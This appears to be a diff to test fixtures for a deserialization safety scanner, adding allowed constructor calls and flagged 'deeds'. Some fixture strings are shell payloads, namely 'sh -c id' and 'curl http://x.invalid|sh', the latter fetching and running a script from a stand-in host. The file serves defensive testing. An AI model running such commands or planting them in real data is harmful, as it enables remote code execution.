@@ -65,6 +65,10 @@ KEPT = {
     ),
     "a path in its parts": call("ModelPath", text("/"), text("home"), text("model.bin")),
     "an exception's message": call("LabError", text("it failed: see /var/log/lab.log; cat and id were asked")),
+    "an exception by its module": call("InvalidState", text("not open"), module="lab.exceptions"),
+    "an exception with what it is about": call("LabError", dict_of("Message", "Not Found"), text("HeadObject")),
+    "a mark": call("Quote", text("'")),
+    "a constructor of numbers": call("__rect_constructor", ONE, TWO),
     "a class with a letter before its name": call("vText", text("daily")),
     "a lower-case type called like its module": call("stype", text("numerical"), module="lab._stype"),
     "a lower-case time of bytes": call("time", octets(b"\x03\x04\0\0")),
@@ -104,6 +108,10 @@ DEEDS = {
     + text("a")
     + text("sh -c id")
     + b"s\x92}b",
+    "a command among what an exception is about": call("LabError", dict_of("Message", "sh -c id")),
+    "a command in a module of exceptions": call(
+        "InvalidState", text("curl http://x.invalid|sh"), module="lab.exceptions"
+    ),
     "a command with its unit": call("unitstr", text("sh -c id"), text("Da")),
     "a setting for what creates": call("_create_thing", dict_of("plugin_path")),
     "a module for what creates": call("_create_thing", dict_of("kind", "subprocess")),
